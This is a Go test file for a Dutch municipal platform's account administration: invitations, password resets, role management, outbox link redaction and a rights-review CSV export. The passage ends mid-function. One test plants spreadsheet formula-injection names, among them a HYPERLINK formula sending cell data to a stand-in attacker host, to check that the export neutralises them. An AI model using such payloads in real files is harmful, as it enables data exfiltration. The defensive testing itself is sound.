package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/vios-platform/vios"
	"github.com/vios-platform/vios/auth"
	"github.com/vios-platform/vios/demo"
	"github.com/vios-platform/vios/server"
	"github.com/vios-platform/vios/store"
	"github.com/vios-platform/vios/store/storetest"
)

// lastLink returns the newest link to path in the outbox.
func (p *platform) lastLink(t *testing.T, path string) string {
	t.Helper()
	mails, err := p.db.ListMail(context.Background(), 10)
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range mails {
		if link := regexp.MustCompile(regexp.QuoteMeta(path) + `[A-Za-z0-9_-]+`).FindString(m.Body); link != "" {
			return link
		}
	}
	t.Fatalf("no mail with a link to %s", path)
	return ""
}

func TestInviteAcceptAndFirstLogin(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})

	// Every mistake at once, and nothing saved.
	bad := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"geen-adres"}, "rol": {"school"}})
	for _, want := range []string{"Vul de naam in.", "Vul een geldig e-mailadres in", "Kies de school waar deze persoon werkt."} {
		if bad.status != http.StatusBadRequest || !strings.Contains(bad.body, want) {
			t.Errorf("bad invite: %d, lacks %q", bad.status, want)
		}
	}
	if mails, _ := p.db.ListMail(ctx, 10); len(mails) != 0 {
		t.Fatalf("a refused invitation sent %d mails", len(mails))
	}

	r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor Nieuw"},
		"email": {"noor@school.example"}, "rol": {"school"}, "organisatie": {schools[0].ID}})
	if r.location != "/beheer/arnhem/gebruikers?melding=uitgenodigd" {
		t.Fatalf("invite: %d %s", r.status, r.body)
	}
	if again := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor"}, "email": {"noor@school.example"}, "rol": {"regisseur"}}); again.status != http.StatusConflict || !strings.Contains(again.body, "Er is al een account met dit e-mailadres.") {
		t.Errorf("second invitation for the same address: %d", again.status)
	}
	link := p.lastLink(t, "/uitnodiging/")
	if page := p.do(t, "GET", link, "", nil); page.status != 200 || !strings.Contains(page.body, "Noor Nieuw") {
		t.Fatalf("invitation page: %d", page.status)
	}
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {"welkom123456"}, "herhaling": {"welkom123456"}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, "veelgebruikte") {
		t.Errorf("common password accepted: %d", r.status)
	}
	const pw = "zeven-zwanen-zwemmen-zacht"
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != 200 || !strings.Contains(r.body, "Uw wachtwoord is ingesteld") {
		t.Fatalf("accept: %d", r.status)
	}
	if r := p.do(t, "GET", link, "", nil); r.status != http.StatusNotFound {
		t.Errorf("used invitation link: %d, want 404", r.status)
	}
	// The new school account is not a demo account: its first login sets up
	// the second factor, even in demo mode.
	if r := p.login(t, "noor@school.example", pw); r.location != "/inloggen/tweede-factor-instellen" {
		t.Errorf("first login goes to %q", r.location)
	}
}

func TestPasswordResetKeepsTheSecondFactor(t *testing.T) {
	p := newPlatform(t, false)
	for _, email := range []string{"niemand@example.org", "mentor@school.example"} {
		r := p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {email}})
		if r.status != 200 || !strings.Contains(r.body, "Als er een account bij dit e-mailadres hoort") {
			t.Errorf("%s: %d", email, r.status)
		}
	}
	p.waitForBackground(t)
	if mails, _ := p.db.ListMail(context.Background(), 10); len(mails) != 1 || mails[0].Recipient != "mentor@school.example" {
		t.Fatalf("reset mails: %d", len(mails))
	}
	// Give the account a second factor, as it would have.
	secret, _, _, _ := auth.NewTOTP("mentor@school.example")
	p.db.SetTOTP(context.Background(), p.school.ID, secret, nil)

	link := p.lastLink(t, "/wachtwoord-herstellen/")
	const pw = "nieuwe-lente-nieuw-geluid"
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {pw}, "herhaling": {pw + "x"}}); r.status != http.StatusBadRequest {
		t.Errorf("different repeat: %d", r.status)
	}
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != 200 {
		t.Fatalf("reset: %d", r.status)
	}
	if r := p.do(t, "POST", link, "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != http.StatusNotFound {
		t.Errorf("link used twice: %d", r.status)
	}
	// The new password works — and the second factor is still asked.
	if r := p.login(t, "mentor@school.example", pw); r.location != "/inloggen/tweede-factor" {
		t.Errorf("login after reset goes to %q, want the second factor", r.location)
	}
	// At most three reset mails an hour for one account.
	for i := 0; i < 5; i++ {
		p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"mentor@school.example"}})
	}
	p.waitForBackground(t)
	if mails, _ := p.db.ListMail(context.Background(), 20); len(mails) != 3 {
		t.Errorf("%d reset mails in an hour, want 3", len(mails))
	}
}

func TestUserAdministration(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")

	// Someone with roles in Arnhem and Den Haag: Arnhem's administrator may
	// take the Arnhem role, but not block the whole account.
	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
	p.db.CreateUser(ctx, both, "")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/blokkeren", admin, url.Values{}); r.status != http.StatusForbidden || !strings.Contains(r.body, "ook voor een andere gemeente") {
		t.Errorf("blocking a two-municipality user: %d", r.status)
	}
	// No role is preset: a form sent without choosing one gives nothing.
	users := p.do(t, "GET", "/beheer/arnhem/gebruikers", admin, nil)
	if !strings.Contains(users.body, `id="rol-`+both.ID+`" name="rol" required><option value="">Kies een rol</option>`) {
		t.Errorf("the role select does not start with 'Kies een rol'")
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen", admin, url.Values{"rol": {""}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, "Kies een bestaande rol") {
		t.Errorf("a role form without a role: %d", r.status)
	}
	if u, _ := p.db.FindUserByID(ctx, both.ID); len(u.Memberships) != 2 {
		t.Errorf("roles after a form without a role: %d", len(u.Memberships))
	}
	// Give an Arnhem role, then take the other one away.
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen", admin, url.Values{"rol": {"otsv"}}); r.location != "/beheer/arnhem/gebruikers?melding=rol-toegekend" {
		t.Errorf("add role: %d %s", r.status, r.body)
	}
	// Revoking asks first (without JavaScript): the first POST changes nothing.
	revoke := "/beheer/arnhem/gebruikers/" + both.ID + "/rollen/" + both.Memberships[0].ID + "/intrekken"
	if r := p.do(t, "POST", revoke, admin, url.Values{}); r.status != 200 || !strings.Contains(r.body, "Wilt u de rol Coördinator van Twee Gemeenten in Arnhem intrekken?") ||
		!strings.Contains(r.body, `name="bevestigd" value="ja"`) {
		t.Errorf("revoking without confirmation: %d", r.status)
	}
	if u, _ := p.db.FindUserByID(ctx, both.ID); len(u.Memberships) != 3 {
		t.Errorf("an unconfirmed revocation took a role: %d left", len(u.Memberships))
	}
	if r := p.do(t, "POST", revoke, admin, url.Values{"bevestigd": {"ja"}}); r.location != "/beheer/arnhem/gebruikers?melding=rol-ingetrokken" {
		t.Errorf("removing the Arnhem role: %d", r.status)
	}
	// Den Haag's role is out of reach under Arnhem's path.
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+both.ID+"/rollen/"+both.Memberships[1].ID+"/intrekken", admin, url.Values{}); r.status != http.StatusNotFound {
		t.Errorf("removing Den Haag's role via Arnhem: %d", r.status)
	}

	// Blocking ends the user's sessions.
	partner := p.login(t, "partner@arnhem.demo.example", testPassword).cookie.Value
	pu, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+pu.ID+"/blokkeren", admin, url.Values{}); r.location != "/beheer/arnhem/gebruikers?melding=geblokkeerd" {
		t.Fatalf("block: %d", r.status)
	}
	if p.do(t, "GET", "/account", partner, nil).status != http.StatusSeeOther {
		t.Error("blocked user still logged in")
	}
	// The last administrator keeps the role.
	me, _, _ := p.db.FindCredentials(ctx, "beheerder@arnhem.demo.example")
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+me.ID+"/rollen/"+me.Memberships[0].ID+"/intrekken", admin, url.Values{"bevestigd": {"ja"}}); r.status != http.StatusConflict || !strings.Contains(r.body, "laatste functioneel beheerder") {
		t.Errorf("removing the last beheerder: %d", r.status)
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+me.ID+"/blokkeren", admin, url.Values{}); r.status != http.StatusBadRequest {
		t.Errorf("blocking oneself: %d", r.status)
	}
	// The regisseur sees the list but cannot manage.
	reg := p.login(t, "regisseur@arnhem.demo.example", testPassword).cookie.Value
	list := p.do(t, "GET", "/beheer/arnhem/gebruikers", reg, nil)
	if list.status != 200 || !strings.Contains(list.body, "Twee Gemeenten") || strings.Contains(list.body, "Iemand uitnodigen") {
		t.Errorf("regisseur's view: %d", list.status)
	}
	if r := p.do(t, "GET", "/beheer/arnhem/gebruikers/uitnodigen", reg, nil); r.status != http.StatusForbidden {
		t.Errorf("regisseur invites: %d", r.status)
	}
}

func TestRightsReview(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	// The otsv account last logged in 100 days ago, the partner account
	// is blocked, the fg logs in now.
	p.db.Now = func() time.Time { return storetest.Now().Add(-100 * 24 * time.Hour) }
	p.login(t, "otsv@arnhem.demo.example", testPassword)
	p.db.Now = storetest.Now
	pu, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
	p.db.SetUserDisabled(vios.NewSystemContext(ctx, "testopzet"), pu.ID, true, p.arnhemID)
	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
	r := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht", fg, nil)
	if r.status != 200 {
		t.Fatalf("review: %d", r.status)
	}
	rows := regexp.MustCompile(`(?s)<th class="utrecht-table__header-cell" scope="row">([^<]+).*?<td class="utrecht-table__cell">([^<]+)<br>.*?<td class="utrecht-table__cell">([^<]*)</td>\s*</tr>`).FindAllStringSubmatch(r.body, -1)
	var roles []string
	flags := map[string]string{} // name → "Let op"
	for _, row := range rows {
		roles = append(roles, strings.TrimSpace(row[1]))
		flags[row[2]] = row[3]
	}
	want := []string{"Functioneel beheerder", "Regisseur (gemeente)", "Functionaris gegevensbescherming"}
	if len(roles) < 7 || !slices.Equal(roles[:3], want) {
		t.Errorf("review order: %q", roles)
	}
	for name, want := range map[string]string{
		"Demo Operationeel Team Schoolveiligheid Arnhem": "Slapend account.",
		"Demo Functionaris gegevensbescherming Arnhem":   "",
		"Demo Samenwerkingspartner Arnhem":               "Geblokkeerd. Slapend account.",
		"Mila Mentor":                                    "Slapend account.",
	} {
		got, ok := flags[name]
		if !ok {
			t.Errorf("%s not in the review (%d rows)", name, len(rows))
		} else if !strings.HasPrefix(got, want) || (want == "" && strings.Contains(got, "Slapend")) {
			t.Errorf("%s flagged %q, want %q", name, got, want)
		}
	}
	if !strings.Contains(r.body, "1 geblokkeerde accounts") {
		t.Error("no count of blocked accounts")
	}
	csv := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht.csv", fg, nil)
	if !strings.HasPrefix(csv.body, "\ufeffnaam,e-mailadres,rol,bevoorrecht,organisatie,status,laatst ingelogd,slapend,tweede factor\n") || strings.Count(csv.body, "\n") < 8 {
		t.Errorf("CSV: %q", csv.body[:min(len(csv.body), 200)])
	}
	// Not for another municipality's privacy officer, nor for the school.
	for _, email := range []string{"fg@den-haag.demo.example", "school@arnhem.demo.example"} {
		s := p.login(t, email, testPassword).cookie.Value
		if r := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht", s, nil); r.status != http.StatusForbidden {
			t.Errorf("%s: %d", email, r.status)
		}
	}
}

func TestOutboxOnlyInDemoModeForAdministrators(t *testing.T) {
	for _, demoMode := range []bool{true, false} {
		p := newPlatform(t, demoMode)
		p.db.QueueMail(context.Background(), "partner@arnhem.demo.example", "Test", "Hallo")
		want := map[bool]int{true: 200, false: 404}[demoMode]
		email := "beheerder@arnhem.demo.example"
		r := p.login(t, email, testPassword)
		if !demoMode {
			// Outside demo mode a demo account needs its second factor: use
			// the regular account and expect the page not to exist.
			r = p.login(t, "landelijk@demo.example", testPassword)
		}
		got := p.do(t, "GET", "/beheer/uitgaande-mail", r.cookie.Value, nil)
		if got.status != want {
			t.Errorf("demo %v: %d, want %d", demoMode, got.status, want)
		}
		if demoMode && !strings.Contains(got.body, "partner@arnhem.demo.example") {
			t.Error("outbox does not show the mail")
		}
	}
	p := newPlatform(t, true)
	school := p.login(t, "school@arnhem.demo.example", testPassword).cookie.Value
	if r := p.do(t, "GET", "/beheer/uitgaande-mail", school, nil); r.status != http.StatusForbidden {
		t.Errorf("school reads the outbox: %d", r.status)
	}
}

// The attack of P6 item 1: an anonymous reset for Arnhem's privacy officer,
// then the link read from Den Haag's outbox. The outbox shows only mail to
// users of the reader's own municipalities, and no live link at all.
func TestOutboxShowsNoLinksAndNoOtherMunicipality(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"fg@arnhem.demo.example"}})
	p.waitForBackground(t)
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {"Noor Nieuw"},
		"email": {"noor@school.example"}, "rol": {"school"}, "organisatie": {schools[0].ID}}); r.status != http.StatusSeeOther {
		t.Fatalf("invite: %d", r.status)
	}
	// Someone who works in both municipalities: mail to them may be about
	// either, so neither administrator reads it.
	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")
	both := &vios.User{Email: "twee@gemeenten.example", Name: "Twee Gemeenten", Memberships: []vios.Membership{
		{MunicipalityID: p.arnhemID, Role: vios.RoleCoordinator}, {MunicipalityID: dh.ID, Role: vios.RoleCoordinator}}}
	if err := p.db.CreateUser(ctx, both, ""); err != nil {
		t.Fatal(err)
	}
	p.db.QueueMail(ctx, both.Email, "Over Arnhem", "Casus in Arnhem")

	all, _ := p.db.ListOutbox(ctx, 100)
	var tokens []string
	for _, m := range all {
		if link := regexp.MustCompile(`/(?:uitnodiging|wachtwoord-herstellen)/([A-Za-z0-9_-]+)`).FindStringSubmatch(m.Body); link != nil {
			tokens = append(tokens, link[1])
		}
	}
	if len(tokens) != 2 {
		t.Fatalf("want a reset and an invitation link in the outbox, got %d mails", len(all))
	}

	denHaag := p.do(t, "GET", "/beheer/uitgaande-mail", p.login(t, "beheerder@den-haag.demo.example", testPassword).cookie.Value, nil)
	arnhem := p.do(t, "GET", "/beheer/uitgaande-mail", admin, nil)
	if denHaag.status != 200 || arnhem.status != 200 {
		t.Fatalf("outbox: %d, %d", denHaag.status, arnhem.status)
	}
	for _, leak := range append(tokens, "fg@arnhem.demo.example", "noor@school.example", both.Email) {
		if strings.Contains(denHaag.body, leak) {
			t.Errorf("Den Haag's outbox shows %q", leak)
		}
	}
	for _, tok := range append(tokens, both.Email) {
		if strings.Contains(arnhem.body, tok) {
			t.Errorf("Arnhem's outbox shows %q", tok)
		}
	}
	if !strings.Contains(arnhem.body, "Aan fg@arnhem.demo.example") || !strings.Contains(arnhem.body, "Aan noor@school.example") ||
		strings.Count(arnhem.body, "[persoonlijke link verborgen]") != 2 {
		t.Errorf("Arnhem's outbox lacks its own mails with the links hidden:\n%s", arnhem.body)
	}
}

func TestRedactSecretLinks(t *testing.T) {
	token, _ := auth.NewToken()
	for _, tt := range []struct {
		body   string
		hidden bool
	}{
		{"Kies het via deze link:\n\nhttps://vios.example/wachtwoord-herstellen/" + token + "\n\nGroet", true},
		{"/uitnodiging/" + token, true},
		{"Uw agenda: https://vios.example/agenda/abc", true},
		{"Een token zonder pad: " + token + ".", true},
		{"Bekijk https://vios.example/casussen/arnhem/0b7c6a2e-3f9b-4a55-9a57-2f4b1f0c9d11 en het schoolveiligheidscoordinatoren-overleg", false},
	} {
		got, hidden := store.RedactSecretLinks(tt.body)
		if hidden != tt.hidden || strings.Contains(got, token) || strings.Contains(got, "/agenda/abc") {
			t.Errorf("%q → %q, hidden %v", tt.body, got, hidden)
		}
	}
}

// An administrator of Den Haag can neither see Arnhem's users nor reach an
// Arnhem user through Den Haag's pages.
func TestNoAdministrationAcrossMunicipalities(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	dh := p.login(t, "beheerder@den-haag.demo.example", testPassword).cookie.Value
	target, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")

	for _, path := range []string{"/beheer/arnhem/gebruikers", "/beheer/arnhem/gebruikers/uitnodigen", "/beheer/arnhem/rechtenoverzicht", "/beheer/arnhem/rechtenoverzicht.csv"} {
		r := p.do(t, "GET", path, dh, nil)
		if r.status != http.StatusForbidden || strings.Contains(r.body, "partner@arnhem.demo.example") {
			t.Errorf("GET %s: %d, want 403 without Arnhem's users", path, r.status)
		}
	}
	// Under Arnhem's path: forbidden. Under Den Haag's own path: the Arnhem
	// user does not exist there.
	for _, path := range []string{"/blokkeren", "/deblokkeren", "/rollen", "/sessies-beeindigen", "/rollen/" + target.Memberships[0].ID + "/intrekken"} {
		if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+target.ID+path, dh, url.Values{"rol": {"otsv"}}); r.status != http.StatusForbidden {
			t.Errorf("POST via Arnhem %s: %d, want 403", path, r.status)
		}
		if r := p.do(t, "POST", "/beheer/den-haag/gebruikers/"+target.ID+path, dh, url.Values{"rol": {"otsv"}}); r.status != http.StatusNotFound {
			t.Errorf("POST via Den Haag %s: %d, want 404", path, r.status)
		}
	}
	after, _, _ := p.db.FindCredentials(ctx, "partner@arnhem.demo.example")
	if after.Disabled || len(after.Memberships) != len(target.Memberships) {
		t.Errorf("the Arnhem user was changed: disabled %v, %d roles", after.Disabled, len(after.Memberships))
	}
	// The overview shows Den Haag only.
	index := p.do(t, "GET", "/beheer", dh, nil)
	if index.status != 200 || !strings.Contains(index.body, `href="/beheer/den-haag/gebruikers"`) || strings.Contains(index.body, "/beheer/arnhem/") {
		t.Errorf("overview: %d", index.status)
	}
}

// Ending someone's sessions logs them out everywhere, and is recorded.
func TestEndSessionsOfAUser(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	first := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	second := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	u, _, _ := p.db.FindCredentials(ctx, "coordinator@arnhem.demo.example")
	if p.do(t, "GET", "/account", first, nil).status != 200 {
		t.Fatal("not logged in")
	}
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+u.ID+"/sessies-beeindigen", admin, url.Values{}); r.location != "/beheer/arnhem/gebruikers?melding=sessies-beeindigd" {
		t.Fatalf("end sessions: %d", r.status)
	}
	for _, s := range []string{first, second} {
		if r := p.do(t, "GET", "/account", s, nil); r.status != http.StatusSeeOther {
			t.Errorf("session still works after ending: %d", r.status)
		}
	}
	if p.do(t, "GET", "/account", admin, nil).status != 200 {
		t.Error("the administrator's own session ended too")
	}
	// The coordinator may not end anyone's sessions.
	coord := p.login(t, "coordinator@arnhem.demo.example", testPassword).cookie.Value
	if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+u.ID+"/sessies-beeindigen", coord, url.Values{}); r.status != http.StatusForbidden {
		t.Errorf("coordinator ends sessions: %d", r.status)
	}
	audit, _ := p.db.SearchAudit(ctx, vios.LogFilter{MunicipalityID: p.arnhemID, Action: "sessies-beeindigd"})
	if len(audit) != 1 || audit[0].ObjectID != u.ID {
		t.Errorf("%d audit records of ending sessions", len(audit))
	}
}

// A link that is unknown, used or expired gives a Dutch 404 page that says
// nothing about any account.
func TestInvalidLinks(t *testing.T) {
	p := newPlatform(t, true)
	for _, path := range []string{"/uitnodiging/onzin", "/wachtwoord-herstellen/onzin", "/uitnodiging/" + strings.Repeat("a", 43)} {
		for _, method := range []string{"GET", "POST"} {
			r := p.do(t, method, path, "", url.Values{"nieuw": {"zeven-zwanen-zwemmen-zacht"}, "herhaling": {"zeven-zwanen-zwemmen-zacht"}})
			if r.status != http.StatusNotFound || !strings.Contains(r.body, "Deze link is ongeldig, verlopen of al gebruikt.") {
				t.Errorf("%s %s: %d", method, path, r.status)
			}
		}
	}
	// A reset link is not an invitation link.
	p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"mentor@school.example"}})
	p.waitForBackground(t)
	link := p.lastLink(t, "/wachtwoord-herstellen/")
	if r := p.do(t, "GET", strings.Replace(link, "/wachtwoord-herstellen/", "/uitnodiging/", 1), "", nil); r.status != http.StatusNotFound {
		t.Errorf("reset token as invitation: %d", r.status)
	}
	// Mistakes are shown beside their field.
	r := p.do(t, "POST", link, "", url.Values{"nieuw": {"kort"}, "herhaling": {"anders"}})
	for _, want := range []string{`aria-describedby="nieuw-fout"`, `aria-describedby="herhaling-fout"`, "niet gelijk"} {
		if r.status != http.StatusBadRequest || !strings.Contains(r.body, want) {
			t.Errorf("bad new password: %d, lacks %q", r.status, want)
		}
	}
	if r := p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {""}}); r.status != http.StatusBadRequest || !strings.Contains(r.body, `aria-describedby="email-fout"`) {
		t.Errorf("empty e-mail address: %d", r.status)
	}
}

// A school role needs one of the municipality's schools, a partner role
// one of its partner organisations; anything else is refused beside the
// field, and nothing is saved.
func TestRoleNeedsTheRightOrganisation(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	admin := p.login(t, "beheerder@arnhem.demo.example", testPassword).cookie.Value
	dh, _ := p.db.FindMunicipalityBySlug(ctx, "den-haag")
	partners, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgPartner})
	dhSchools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: dh.ID, Kind: vios.OrgSchool})
	for name, org := range map[string]string{"a partner": partners[0].ID, "a Den Haag school": dhSchools[0].ID, "nonsense": "onzin"} {
		r := p.do(t, "POST", "/beheer/arnhem/gebruikers/uitnodigen", admin, url.Values{"naam": {""}, "email": {"nieuw@school.example"},
			"rol": {"school"}, "organisatie": {org}})
		for _, want := range []string{"Kies een school van deze gemeente voor de rol schoolmedewerker.", `aria-describedby="organisatie-fout"`, "Vul de naam in."} {
			if r.status != http.StatusBadRequest || !strings.Contains(r.body, want) {
				t.Errorf("school role at %s: %d, lacks %q", name, r.status, want)
			}
		}
		if r := p.do(t, "POST", "/beheer/arnhem/gebruikers/"+p.school.ID+"/rollen", admin, url.Values{"rol": {"school"}, "organisatie": {org}}); r.status != http.StatusBadRequest {
			t.Errorf("adding a school role at %s: %d", name, r.status)
		}
	}
	if _, _, err := p.db.FindCredentials(ctx, "nieuw@school.example"); vios.ErrorCode(err) != vios.ENOTFOUND {
		t.Errorf("a refused invitation created the account: %v", err)
	}
	if u, _ := p.db.FindUserByID(ctx, p.school.ID); len(u.Memberships) != 1 {
		t.Errorf("refused roles were added: %d roles", len(u.Memberships))
	}
}

// A name that a spreadsheet would run as a formula reaches the CSV as text.
func TestRightsReviewCSVNeutralisesFormulas(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	hash, _ := auth.NewHasher(1).Hash(ctx, testPassword)
	schools, _ := p.db.ListOrganisations(ctx, vios.OrganisationFilter{MunicipalityID: p.arnhemID, Kind: vios.OrgSchool})
	for _, name := range []string{`=HYPERLINK("https://kwaad.example/?"&A1,"Klik")`, "+31 6 1234", "-2+3", "@SUM(A1)"} {
		u := &vios.User{Email: fmt.Sprintf("formule%d@school.example", len(name)), Name: name,
			Memberships: []vios.Membership{{MunicipalityID: p.arnhemID, OrganisationID: schools[0].ID, Role: vios.RoleSchool}}}
		if err := p.db.CreateUser(ctx, u, hash); err != nil {
			t.Fatal(err)
		}
	}
	fg := p.login(t, "fg@arnhem.demo.example", testPassword).cookie.Value
	body := p.do(t, "GET", "/beheer/arnhem/rechtenoverzicht.csv", fg, nil).body
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				seen++
			}
		}
	}
	if seen != 4 || !strings.Contains(body, `'=HYPERLINK(`) {
		t.Errorf("%d neutralised cells, want 4:\n%s", seen, body)
	}
}

// P6 item 10: no credential outlives a reset or a password change. API
// tokens are revoked (on a change only when the ticked-by-default box stays
// ticked), and using a reset link spends every older one.
func TestCredentialsDoNotOutliveAReset(t *testing.T) {
	p := newPlatform(t, true)
	ctx := context.Background()
	newToken := func(email string) string {
		u, _, _ := p.db.FindCredentials(ctx, email)
		raw, _ := auth.NewToken()
		token := "vios_" + raw
		if err := p.db.CreateAccessToken(ctx, &vios.AccessToken{UserID: u.ID, Name: "script", Scopes: []string{"lezen"},
			ExpiresAt: p.db.Now().Add(24 * time.Hour)}, auth.HashToken(token)); err != nil {
			t.Fatal(err)
		}
		return token
	}
	works := func(token string) bool {
		return p.do(t, "GET", "/api/v1/ik", "", nil, "Authorization", "Bearer "+token).status == http.StatusOK
	}

	// The box is ticked on the form.
	s := p.login(t, "regisseur@arnhem.demo.example", testPassword).cookie.Value
	if form := p.do(t, "GET", "/account/wachtwoord", s, nil); !regexp.MustCompile(`name="tokens-intrekken" type="checkbox" value="ja" checked`).MatchString(form.body) ||
		!strings.Contains(form.body, "Trek ook mijn API-sleutels in") {
		t.Error("the password form does not offer, ticked, to revoke the API tokens")
	}
	// Unticked: the token stays. Ticked (the default): it stops working.
	token := newToken("regisseur@arnhem.demo.example")
	const second, third = "groene-kikker-in-de-sloot", "blauwe-reiger-aan-de-waterkant"
	if r := p.do(t, "POST", "/account/wachtwoord", s, url.Values{"huidig": {testPassword}, "nieuw": {second}, "herhaling": {second}}); r.location != "/account?melding=wachtwoord-gewijzigd" || !works(token) {
		t.Errorf("unticked box: %q, token works %v", r.location, works(token))
	}
	if r := p.do(t, "POST", "/account/wachtwoord", s, url.Values{"huidig": {second}, "nieuw": {third}, "herhaling": {third}, "tokens-intrekken": {"ja"}}); r.location != "/account?melding=wachtwoord-tokens" || works(token) {
		t.Errorf("ticked box: %q, token still works %v", r.location, works(token))
	}

	// A reset: two links, the newer used; the older then fails, and the
	// token made with the old password is revoked.
	token = newToken("mentor@school.example")
	var links []string
	for range 2 {
		p.do(t, "POST", "/wachtwoord-vergeten", "", url.Values{"email": {"mentor@school.example"}})
		p.waitForBackground(t)
		links = append(links, p.lastLink(t, "/wachtwoord-herstellen/"))
	}
	if links[0] == links[1] {
		t.Fatal("the second request gave no new link")
	}
	const pw = "nieuwe-lente-nieuw-geluid"
	if r := p.do(t, "POST", links[1], "", url.Values{"nieuw": {pw}, "herhaling": {pw}}); r.status != 200 {
		t.Fatalf("newer link: %d", r.status)
	}
	if r := p.do(t, "POST", links[0], "", url.Values{"nieuw": {"oude-link-nog-bruikbaar"}, "herhaling": {"oude-link-nog-bruikbaar"}}); r.status != http.StatusNotFound {
		t.Errorf("older reset link after the newer was used: %d, want 404", r.status)
	}
	if works(token) {
		t.Error("an API token survives a password reset")
	}
}

// blockingLookups holds every account lookup by address until released. A
// handler that waits for the lookup before it answers would wait forever:
// after a generous bound the lookup goes on and says so (waited), so such a
// handler fails the test instead of hanging it.
type blockingLookups struct {
	*store.DB
	release chan struct{}
	lookups atomic.Int32
	waited  atomic.Bool
}

func (b *blockingLookups) FindCredentials(ctx context.Context, email string) (*vios.User, vios.Credentials, error) {
	b.lookups.Add(1)
	select {
	case <-b.release:
	case <-time.After(10 * time.Second):
		b.waited.Store(true)
	}
	return b.DB.FindCredentials(ctx, email)
}

// P6 item 11: the reset form answers before it looks the address up, so a
// known and an unknown address cannot be told apart by the time the answer
// takes (no timing here: the lookup is held until both answers came); and
// only reset links count towards the hourly limit.
func TestResetAnswersBeforeLookingUpAndCountsResetsOnly(t *testing.T) {
	ctx := context.Background()
	db := storetest.OpenWithDemo(t)
	hash, _ := auth.NewHasher(1).Hash(ctx, testPassword)
	if err := demo.LoadUsers(ctx, db, hash); err != nil {
		t.Fatal(err)
	}
	// A busy partner: ten agendas this hour.
	for range 10 {
		db.QueueMail(ctx, "partner@arnhem.demo.example", "Agenda", "Het overleg van morgen")
	}
	held := &blockingLookups{DB: db, release: make(chan struct{})}
	services := db.Services()
	services.Identity = held
	srv, err := server.New(services, slog.New(slog.DiscardHandler), server.Options{HashConcurrency: 1})
